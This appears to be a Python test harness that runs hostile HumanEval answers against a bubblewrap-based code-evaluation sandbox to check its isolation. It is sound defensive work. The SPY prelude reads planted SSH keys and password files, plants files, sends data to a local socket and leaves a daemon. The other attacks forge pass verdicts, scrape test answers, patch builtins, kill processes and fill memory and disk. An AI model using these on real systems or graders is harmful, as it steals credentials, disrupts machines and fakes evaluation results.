"""Hostile HumanEval answers (and one hostile dataset test) and the checks each must meet.

Standard library only: test_sandbox_attacks.py imports it as root, and runs it as a script
as an ordinary user (`/usr/bin/python3 tests/sandbox_attacks.py`, which prints JSON).

Every program starts with the SPY prelude, which tries what a thief would: read the planted
~/.ssh/id_ed25519, /etc/passwd and the project's servers.yaml, append to ~/.bashrc, write
outside its folder (the planted world-writable folder, /var/tmp, /tmp, /dev/shm, the
scorer's folder), connect to a TCP listener on 127.0.0.1, dump every environment it can
see, and leave a daemon behind (setsid + execve with an empty environment). Then comes the
attack itself. The checks after each run: not passed (unless the attack is in the test and
the answer is right), a reason given, no secret in the output or the verdict, the planted
files unchanged, nothing planted anywhere, no connection, no process left, and - run next
to it at the same time - a plain and a threaded correct answer still pass.
"""

from __future__ import annotations

import json
import os
import socket
import sys
import tempfile
import textwrap
import time
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from qatcmp.sandbox import Job, Limits, Outcome, Sandbox  # noqa: E402

SECRET = "QATCMP-SSH-PRIVATE-KEY-CANARY-5150"
API_KEY = "sk-qatcmp-canary-api-key-8086"
WORLD = "QATCMP-WORLD-READABLE-CANARY-6502"
PASSWD_LINE = "root:x:0:0:"
DAEMON_MARK = "4242.125"  # the daemon's `sleep` argument: findable in /proc/*/cmdline
PLANTED = "qatcmp-planted"
LIMITS = Limits(wall_s=4.0, cpu_s=4, output_kill_bytes=1 << 20, tmpfs_bytes=16 << 20)

TEST = "def check(candidate):\n    assert candidate(1) == 2\n    assert candidate(5) == 6\n"
PROMPT = 'def f(x):\n    """x + 1"""\n'
GOOD = "def f(x):\n    return x + 1\n"
THREADED_GOOD = """
import threading
def f(x):
    box = []
    workers = [threading.Thread(target=lambda: box.append(1)) for _ in range(8)]
    for w in workers:
        w.start()
    for w in workers:
        w.join()
    return x + len(box) // 8
"""

SPY = '''
import os as _os, socket as _socket
def _spy():
    for _path in ({secret_path!r}, {bashrc!r}, "/root/.bashrc", "/etc/passwd", "/etc/shadow", {servers_yaml!r},
                  {world_file!r}, _os.path.expanduser("~/.ssh/id_ed25519")):
        try:
            print("READ", _path, open(_path, errors="replace").read()[:3000])
        except Exception:
            pass
    for _path in ({bashrc!r}, {outside!r} + "/{planted}", "/var/tmp/{planted}", "/tmp/../tmp/{planted}",
                  "/dev/shm/{planted}", "/root/{planted}", {cwd!r} + "/{planted}", "/{planted}"):
        try:
            with open(_path, "a") as _fh:
                _fh.write("planted\\n")
        except Exception:
            pass
    try:
        _c = _socket.create_connection(("127.0.0.1", {port}), timeout=0.3)
        _c.sendall(b"stolen")
        _c.close()
    except Exception:
        pass
    print("ENV", dict(_os.environ))
    try:
        for _pid in _os.listdir("/proc"):
            if _pid.isdigit():
                try:
                    print("PROC", _pid, open("/proc/" + _pid + "/environ", "rb").read())
                except Exception:
                    pass
    except Exception:
        pass
    try:
        if _os.fork() == 0:
            try:
                _os.setsid()
                if _os.fork() == 0:
                    _os.execve("/usr/bin/sleep", ["sleep", "{daemon}"], {{}})
            finally:
                _os._exit(0)
    except Exception:
        pass
_spy()
'''


@dataclass(frozen=True)
class Attack:
    program: str
    test: str = TEST
    entry_point: str = "f"
    prompt: str = PROMPT
    statuses: tuple[str, ...] = ("failed", "timeout")
    detail_has: str = ""  # the reason must name this (or one of several, separated by "|")
    spy_in_test: bool = False  # a hostile dataset: the prelude runs in the judge


def _humaneval(task: str) -> tuple[str, str, str]:
    import gzip

    with gzip.open(ROOT / "qatcmp" / "data" / "HumanEval.jsonl.gz", "rt") as fh:
        for line in fh:
            row = json.loads(line)
            if row["task_id"] == task:
                return row["prompt"], row["test"], row["entry_point"]
    raise KeyError(task)


def attacks() -> dict[str, Attack]:
    find_zero_prompt, find_zero_test, _ = _humaneval("HumanEval/32")
    add_prompt, add_test, _ = _humaneval("HumanEval/53")
    found: dict[str, Attack] = {
        "forge_verdict_from_frames": Attack("""
            import gc, os, re, struct, sys
            tokens = set()
            frame = sys._getframe()
            while frame is not None:
                for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
                    if isinstance(value, str) and re.fullmatch(r"[0-9a-f]{16,64}", value):
                        tokens.add(value)
                frame = frame.f_back
            for obj in gc.get_objects():
                if isinstance(obj, dict):
                    for value in list(obj.values()):
                        if isinstance(value, str) and re.fullmatch(r"[0-9a-f]{16,64}", value):
                            tokens.add(value)
            passed = b"s" + struct.pack("<I", 6) + b"passed" + b"s" + struct.pack("<I", 0) + b"t" + struct.pack("<I", 2)
            forged = [struct.pack(">I", len(passed)) + passed, b"passed\\n"]
            forged += [f"{t}\\tpassed\\t\\n".encode() for t in tokens]
            for fd in range(256):
                for payload in forged:
                    try:
                        os.write(fd, payload)
                    except OSError:
                        pass
            def f(x):
                return x
        """),
        "fake_numpy_always_equal": Attack("""
            import itertools
            class ndarray:
                __module__ = "numpy"
                def __eq__(self, other):
                    return True
                __hash__ = object.__hash__
                def tolist(self):
                    return self
            class float64(float):
                __module__ = "numpy"
                def __eq__(self, other):
                    return True
                __hash__ = float.__hash__
                def tolist(self):
                    return ndarray()
            class Anything(int):
                def __eq__(self, other):
                    return True
                __hash__ = int.__hash__
            kinds = itertools.cycle([ndarray, lambda: float64(0), lambda: Anything(0)])
            def f(x):
                return next(kinds)()
        """, detail_has="plain values"),
        "patch_builtins": Attack("""
            import builtins, sys
            real_compile = builtins.compile
            builtins.compile = lambda *a, **k: real_compile("pass", "x", "exec")
            builtins.exec = lambda *a, **k: None
            builtins.isinstance = lambda *a: True
            builtins.AssertionError = type("Ignored", (Exception,), {})
            builtins.abs = lambda value: 0
            sys.modules["builtins"].__dict__["len"] = lambda value: 0
            def f(x):
                return x
        """, test="def check(candidate):\n    assert isinstance(candidate(1), int)\n    assert abs(candidate(1) - 2) == 0\n"),
        "redefine_prompt_helper_poly": Attack("""
            import math
            def poly(xs, x):
                return 0.0
            math.fabs = lambda value: 0.0
            def find_zero(xs):
                return 0.0
        """, test=find_zero_test, entry_point="find_zero", prompt=find_zero_prompt),
        "patch_random_and_math": Attack("""
            import math, random
            random.randint = lambda a, b: 0
            random.Random.randint = lambda self, a, b: 0
            math.fabs = lambda value: 0.0
            def add(x, y):
                return x + y if x == 0 or y == 0 else 0
        """, test=add_test, entry_point="add", prompt=add_prompt),
        "read_test_source_from_frames": Attack("""
            import gc, os, re, sys
            table = {}
            def harvest(text):
                for arg, want in re.findall(r"candidate\\((\\d+)\\) == (\\d+)", text):
                    table[int(arg)] = int(want)
            frame = sys._getframe()
            while frame is not None:
                for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
                    if isinstance(value, str):
                        harvest(value)
                frame = frame.f_back
            for obj in gc.get_objects():
                if isinstance(obj, str):
                    harvest(obj)
                elif isinstance(obj, dict):
                    for value in list(obj.values()):
                        if isinstance(value, str):
                            harvest(value)
            for pid in os.listdir("/proc"):
                for part in ("cmdline", "environ"):
                    try:
                        harvest(open(f"/proc/{pid}/{part}", errors="replace").read())
                    except OSError:
                        pass
                try:
                    for fd in os.listdir(f"/proc/{pid}/fd"):
                        try:
                            harvest(open(f"/proc/{pid}/fd/{fd}", errors="replace").read(1 << 16))
                        except OSError:
                            pass
                except OSError:
                    pass
            def f(x):
                return table.get(x, x)
        """),
        "unmount_private_tmp": Attack("""
            import ctypes, os
            libc = ctypes.CDLL(None, use_errno=True)
            for target in (b"/tmp", b"/", b"/usr", b"/proc"):
                libc.umount2(target, 2)
            libc.mount(b"none", b"/", None, 32 | 4096 | 16384, None)  # remount rw
            libc.unshare(0x10000000 | 0x00020000)  # a new user + mount namespace
            libc.mount(b"tmpfs", b"/usr", b"tmpfs", 0, None)
            for path in ("/tmp/qatcmp-planted", "/usr/qatcmp-planted", "/qatcmp-planted"):
                try:
                    open(path, "w").write("x")
                except OSError:
                    pass
            try:
                os.setuid(0)
                os.chroot("/")
            except OSError:
                pass
            def f(x):
                return x
        """),
        "signal_and_trace_everything": Attack("""
            import ctypes, os, signal
            libc = ctypes.CDLL(None, use_errno=True)
            for pid in range(1, 4096):
                if pid != os.getpid():
                    libc.ptrace(16, pid, None, None)  # PTRACE_ATTACH
                    try:
                        os.kill(pid, signal.SIGKILL)
                    except OSError:
                        pass
            for target in (lambda: os.kill(os.getppid(), signal.SIGKILL), lambda: os.killpg(0, signal.SIGKILL),
                           lambda: os.kill(-1, signal.SIGKILL)):
                try:
                    target()
                except OSError:
                    pass
            def f(x):
                return x
        """, statuses=("failed",)),
        "fork_bomb": Attack("""
            import os, time
            for _ in range(100000):
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.01)
            def f(x):
                return x
        """),
        # Big chunks: the address-space limit (1 GiB) stops the second one at once, after only
        # 512 MiB was zero-filled. On a loaded 2-core machine even that can outlast the 4 s
        # wall limit (seen once in CI), so a time-out is also a right reason: either way the
        # bomb is stopped, nothing changes and the good answers still pass.
        "memory_bomb": Attack("""
            hoard = []
            while True:
                hoard.append(bytearray(512 << 20))
        """, detail_has="Memory|time limit"),
        "fill_the_disk": Attack("""
            import os
            block = b"x" * (1 << 20)
            for folder in ("/tmp", "/dev/shm", "/var/tmp", "/", "."):
                for n in range(2048):
                    try:
                        with open(f"{folder}/fill-{n}", "wb") as fh:
                            fh.write(block * 8)
                    except OSError:
                        break
            def f(x):
                return x
        """),
        "deep_unremovable_tree": Attack("""
            import os
            base = os.getcwd()
            os.makedirs("odd\\nname \\udcff dir", exist_ok=True)
            os.chdir(base)
            for depth in range(1500):
                os.mkdir("d")
                os.chdir("d")
            open("deep-file", "w").write("x")
            os.chdir(base)
            for name in ("locked", "locked/inner"):
                os.mkdir(name)
            open("locked/inner/file", "w").write("x")
            os.chmod("locked/inner", 0)
            os.chmod("locked", 0)
            os.symlink("/", "link-to-root")
            def f(x):
                return x
        """),
        "exfiltrate_through_the_verdict": Attack(f"""
            import os
            def f(x):
                stolen = []
                for path in ("/etc/passwd", {str(ROOT / "servers.yaml")!r}, os.path.expanduser("~/.ssh/id_ed25519")):
                    try:
                        stolen.append(open(path).read())
                    except OSError as exc:
                        stolen.append(str(exc))
                stolen.append(repr(dict(os.environ)))
                raise ValueError(" ".join(stolen))
        """, detail_has="raised"),
        "protocol_oversized_frame": Attack("""
            import os, struct, sys
            fd = int(sys.argv[-1])
            os.write(fd, struct.pack(">I", 2**31) + b"x" * 1000)
            import time
            time.sleep(30)
        """, detail_has="bytes"),
        "protocol_garbage_and_unknown_tags": Attack("""
            import os, struct, sys
            fd = int(sys.argv[-1])
            payload = b"s" + struct.pack("<I", 5) + b"ready" + b"t" + struct.pack("<I", 1)
            os.write(fd, struct.pack(">I", len(payload)) + payload)
            os.read(int(sys.argv[-2]), 1 << 16)
            evil = b"s" + struct.pack("<I", 2) + b"ok" + b"X" + struct.pack("<I", 0) + b"t" + struct.pack("<I", 2)
            os.write(fd, struct.pack(">I", len(evil)) + evil)
            import time
            time.sleep(30)
        """, detail_has="candidate sent"),
        "protocol_deep_nesting": Attack("""
            import os, struct, sys
            fd = int(sys.argv[-1])
            payload = b"s" + struct.pack("<I", 5) + b"ready" + b"t" + struct.pack("<I", 1)
            os.write(fd, struct.pack(">I", len(payload)) + payload)
            os.read(int(sys.argv[-2]), 1 << 16)
            deep = b"N" + (b"l" + struct.pack("<I", 1)) * 5000
            evil = b"s" + struct.pack("<I", 2) + b"ok" + deep + b"t" + struct.pack("<I", 2)
            os.write(fd, struct.pack(">I", len(evil)) + evil)
            import time
            time.sleep(30)
        """, detail_has="deeper"),
        "deep_return_value": Attack("""
            def f(x):
                value = []
                for _ in range(100000):
                    value = [value]
                return value
        """, detail_has="plain values"),
        "exit_before_the_tests": Attack("""
            import os
            def f(x):
                return x + 1
            os._exit(0)
        """),
        "exit_inside_the_function": Attack("""
            import os, sys
            calls = []
            def f(x):
                calls.append(x)
                if len(calls) == 1:
                    return x + 1
                os.closerange(0, 64)
                os._exit(0)
        """),
        "system_exit_inside_the_function": Attack("""
            import sys
            def f(x):
                sys.exit(0)
        """, detail_has="SystemExit"),
        "infinite_loop": Attack("""
            def f(x):
                while True:
                    pass
        """, statuses=("timeout",)),
        "sleep_ignoring_signals": Attack("""
            import signal, time
            for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU):
                signal.signal(sig, signal.SIG_IGN)
            time.sleep(100)
        """, statuses=("timeout",)),
        "huge_output": Attack("""
            while True:
                print("x" * 10000)
        """, detail_has="output"),
        "recursion_past_the_c_stack": Attack("""
            import sys
            sys.setrecursionlimit(10**7)
            def f(x):
                return f(x + 1) + 1
        """),
        "redefine_check_and_trace": Attack("""
            import sys, threading
            def check(candidate):
                pass
            def tracer(frame, event, arg):
                return tracer
            sys.settrace(tracer)
            threading.settrace(tracer)
            sys.excepthook = lambda *a: None
            def f(x):
                return 0
        """),
        "hostile_dataset_test": Attack(GOOD, statuses=("passed",), spy_in_test=True),
    }
    return found


@dataclass
class World:
    """The planted home, the outside folder and the listener, and what they looked like."""

    root: Path
    home: Path
    outside: Path
    listener: socket.socket
    secret_path: Path
    bashrc: Path
    world_file: Path
    bashrc_before: str = ""

    @classmethod
    def plant(cls, root: Path) -> "World":
        home, outside = root / "home", root / "outside"
        (home / ".ssh").mkdir(parents=True)
        outside.mkdir()
        outside.chmod(0o777)
        secret = home / ".ssh" / "id_ed25519"
        # A fake key (the marker is split so secret scanners do not flag this file).
        secret.write_text("-----BEGIN " + f"OPENSSH PRIVATE KEY-----\n{SECRET}\n")
        secret.chmod(0o600)
        bashrc = home / ".bashrc"
        bashrc.write_text("# the user's own .bashrc\n")
        world = outside / "world-readable.txt"
        world.write_text(WORLD)
        world.chmod(0o644)
        listener = socket.socket()
        listener.bind(("127.0.0.1", 0))
        listener.listen(16)
        listener.setblocking(False)
        return cls(root, home, outside, listener, secret, bashrc, world, bashrc.read_text())

    def program(self, attack: Attack) -> tuple[str, str]:
        spy = SPY.format(secret_path=str(self.secret_path), bashrc=str(self.bashrc), servers_yaml=str(ROOT / "servers.yaml"),
                         world_file=str(self.world_file), outside=str(self.outside), planted=PLANTED,
                         cwd=os.getcwd(), port=self.listener.getsockname()[1], daemon=DAEMON_MARK)
        body = textwrap.dedent(attack.program)
        if attack.spy_in_test:
            return body, spy + "\n" + attack.test
        return spy + "\n" + body, attack.test

    def problems(self, attack: Attack, outcome: Outcome, others: list[Outcome]) -> list[str]:
        """Every broken promise after one attack (empty: all kept)."""
        found = []
        if outcome.status not in attack.statuses:
            found.append(f"status {outcome.status!r} ({outcome.detail}) not in {attack.statuses}")
        if not outcome.detail and outcome.status != "passed":
            found.append("no reason given")
        if attack.detail_has and not any(part in outcome.detail for part in attack.detail_has.split("|")):
            found.append(f"reason {outcome.detail!r} does not name {attack.detail_has!r}")
        seen = outcome.output + outcome.detail
        servers_line = "base_url: http://127.0.0.1:8000/v1"
        for canary, what in ((SECRET, "the ssh key"), (API_KEY, "the API key"), (WORLD, "a world-readable file"),
                             (PASSWD_LINE, "/etc/passwd"), (servers_line, "servers.yaml")):
            if canary in seen:
                found.append(f"{what} was read")
        if self.bashrc.read_text() != self.bashrc_before:
            found.append("~/.bashrc changed")
        if sorted(p.name for p in self.outside.iterdir()) != ["world-readable.txt"]:
            found.append("a file was written in the outside folder")
        for folder in ("/tmp", "/var/tmp", "/dev/shm", "/", os.getcwd(), str(ROOT)):
            if os.path.exists(os.path.join(folder, PLANTED)):
                found.append(f"a file was planted in {folder}")
        try:
            connection, _ = self.listener.accept()
            connection.close()
            found.append("a TCP connection reached 127.0.0.1")
        except BlockingIOError:
            pass
        left = leftover_processes()
        if left:
            found.append(f"processes left: {left}")
        if [o.status for o in others] != ["passed", "passed"]:
            found.append(f"a correct answer scored at the same time failed: {[(o.status, o.detail) for o in others]}")
        return found


def leftover_processes() -> list[str]:
    """Processes of a sandbox still alive: the daemon's mark, bwrap, or our child program."""
    left = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
        except OSError:
            continue
        if DAEMON_MARK in cmdline or "qatcmp/child.py" in cmdline or cmdline.startswith("bwrap "):
            left.append(f"{entry.name}: {cmdline[:80]}")
    return left


def run_attack(world: World, name: str, attack: Attack, sandbox: Sandbox) -> list[str]:
    program, test = world.program(attack)
    jobs = [Job(program, test, attack.entry_point, attack.prompt), Job(GOOD, TEST, "f", PROMPT),
            Job(textwrap.dedent(THREADED_GOOD), TEST, "f", PROMPT)]
    started = time.monotonic()
    attacked, *others = sandbox.run_many(jobs, workers=3)
    elapsed = time.monotonic() - started
    problems = world.problems(attack, attacked, others)
    if elapsed > LIMITS.wall_s + 4:
        problems.append(f"took {elapsed:.1f} s")
    if sandbox.run(Job(GOOD, TEST, "f", PROMPT)).status != "passed":
        problems.append("the sandbox no longer works after the attack")
    return problems


def sandbox_for_attacks() -> Sandbox:
    sandbox = Sandbox(LIMITS)
    if sandbox.protections.isolation != "bubblewrap":
        # Never run these without isolation: kill(-1) as root would end the machine's processes.
        raise SystemExit(f"no bubblewrap isolation here: {sandbox.protections.missing}")
    return sandbox


def main() -> int:
    """As an ordinary user: plant a home, run every attack, print {name: problems} as JSON."""
    os.environ["OPENAI_API_KEY"] = API_KEY
    sandbox = sandbox_for_attacks()
    results: dict[str, list[str]] = {"_protections": sandbox.protections.names()}
    with tempfile.TemporaryDirectory(prefix="qatcmp-attack-world-") as tmp:
        world = World.plant(Path(tmp))
        os.environ["HOME"] = str(world.home)
        try:
            for name, attack in attacks().items():
                results[name] = run_attack(world, name, attack, sandbox)
        finally:
            world.listener.close()
    print(json.dumps(results))
    return 0


if __name__ == "__main__":
    sys.exit(main())
